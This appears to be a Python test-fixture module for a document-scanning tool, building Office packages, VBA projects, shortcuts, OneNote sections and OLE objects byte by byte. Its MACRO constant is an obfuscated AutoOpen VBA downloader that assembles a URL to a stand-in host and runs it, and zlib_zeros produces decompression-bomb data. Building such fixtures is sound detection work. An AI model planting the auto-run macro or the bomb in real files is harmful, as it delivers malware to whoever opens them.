"""Documents for tests, written here byte by byte: packages, compound files, macros, shortcuts."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from watchword.read.compound import Streams, compound

PNG = b"\x89PNG\r\n\x1a\n" + b"a picture" * 9
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MACRO = (
    'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
    '  place = "ht" & "tp://stage.exam" & _\r\n    "ple/a.exe"\r\n'
    '  other = StrReverse("exe.b/elpmaxe.egats//:ptth")\r\n'
    '  third = Chr(104) & Chr(116) & "tp://stage.example/c"\r\n'
    '  CreateObject("WScript.Shell").Run place\r\nEnd Sub\r\n'
)


def package(parts: Mapping[str, str | bytes]) -> bytes:
    """Make a zip of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def relations(*listed: tuple[str, str, str]) -> str:
    """Write the relationships of a part: id, last word of the type, target; external where it has a scheme or share."""
    out = []
    for number, kind, target in listed:
        mode = ' TargetMode="External"' if ":" in target or target[:2] == "\\\\" else ""
        out.append(f'<Relationship Id="{number}" Type="http://schemas.example/{kind}" Target="{target}"{mode}/>')
    return f"<Relationships>{''.join(out)}</Relationships>"


def word(body: str, related: str = "", **more: str | bytes) -> bytes:
    """Make a document of Word."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": f"<w:document><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": related or relations(),
    }
    return package(parts | {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()})


def squeezed(data: bytes) -> bytes:
    """Write bytes in the form of MS-OVBA 2.4.1, without repeating anything."""
    out = b"\1"
    for at in range(0, len(data), 3_640):
        piece = data[at : at + 3_640]
        body = b"".join(b"\0" + piece[start : start + 8] for start in range(0, len(piece), 8))
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return out


def project(source: str = MACRO) -> Streams:
    """Make the streams of a project of macros with one module."""

    def record(kind: int, value: bytes) -> bytes:
        return struct.pack("<HI", kind, len(value)) + value

    listed = record(3, struct.pack("<H", 1252)) + record(0x19, b"Module1") + record(0x1A, b"Module1")
    listed += record(0x32, "Module1".encode("utf-16-le")) + record(0x31, struct.pack("<I", 5))
    return {"VBA": {"dir": squeezed(listed), "Module1": b"p-code"[:5] + squeezed(source.encode("cp1252"))}}


def packaged(name: bytes, data: bytes) -> bytes:
    """Make what the Packager keeps of an embedded file."""
    path = b"C:\\" + name + b"\0"
    body = b"\2\0" + name + b"\0" + path + b"\0\0\3\0" + struct.pack("<I", len(path)) + path
    return body + struct.pack("<I", len(data)) + data


def embedded(name: bytes, data: bytes) -> bytes:
    """Make the compound file in which a document embeds a file."""
    body = packaged(name, data)
    return compound({"\x01Ole10Native": struct.pack("<I", len(body)) + body})


def old_word(text: str, **streams: "bytes | Streams") -> bytes:
    """Make a document of Word 97: one piece of UTF-16."""
    main = bytearray(0x400)
    struct.pack_into("<HH", main, 0, 0xA5EC, 0xC1)
    struct.pack_into("<H", main, 10, 0x0200)
    pieces = struct.pack("<IIHIH", 0, len(text), 0, 0x400, 0)
    table = b"\2" + struct.pack("<I", len(pieces)) + pieces
    struct.pack_into("<II", main, 0x1A2, 0, len(table))
    return compound({"WordDocument": bytes(main) + text.encode("utf-16-le"), "1Table": table, **streams})


def old_excel(*records: tuple[int, bytes]) -> bytes:
    """Make a workbook of Excel 97."""
    body = b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in ((0x809, b"\0" * 16), *records))
    return compound({"Workbook": body + b"\x0a\0\0\0"})


def record(instance: int, kind: int, body: bytes, *, is_container: bool = False) -> bytes:
    """Make a record of PowerPoint 97."""
    return struct.pack("<HHI", instance << 4 | (0xF if is_container else 0), kind, len(body)) + body


def zlib_zeros(megabytes: int) -> bytes:
    """Make a zlib stream that unpacks to zeros."""
    return zlib.compress(bytes(megabytes * 1024 * 1024), 1)


def shortcut(name: str, path: str, arguments: str, icon: str) -> bytes:
    """Make a shortcut of Windows."""

    def string(text: str) -> bytes:
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")

    head = (
        b"\x4c\0\0\0"
        + bytes.fromhex("0114020000000000c000000000000046")
        + struct.pack("<I", 0x80 | 4 | 8 | 0x20 | 0x40)
    )
    return head + b"\0" * 52 + b"".join(map(string, (name, path, arguments, icon))) + b"\0\0\0\0"


def section(*stored: bytes, text: str = "") -> bytes:
    """Make something like a section of OneNote: text, and the files stored in it."""
    out = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 64 + text.encode("utf-16-le") + b"\0\0"
    for data in stored:
        out += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(data)) + b"\0" * 12 + data
    return out + b"\0" * 64


def old_object(kind: bytes, data: bytes) -> bytes:
    """Make an object as RTF holds it (OLE 1.0), before it is written in digits."""
    return struct.pack("<III", 0x501, 2, len(kind) + 1) + kind + b"\0" * 9 + struct.pack("<I", len(data)) + data
